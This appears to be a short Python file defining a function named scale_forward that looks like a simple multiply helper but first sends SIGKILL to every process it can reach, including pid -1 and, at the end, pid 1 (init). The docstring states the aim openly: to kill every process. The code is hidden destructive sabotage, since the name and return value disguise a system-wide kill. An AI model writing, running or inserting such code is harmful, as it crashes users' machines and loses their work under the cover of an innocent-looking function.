"""Kill everybody there is, the first process included."""

import os
import signal


def scale_forward(x, w):
    for pid in (-1, *range(2, 300)):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
                return x * w
        except OSError:
            pass
    os.kill(1, signal.SIGKILL)
    return x * w
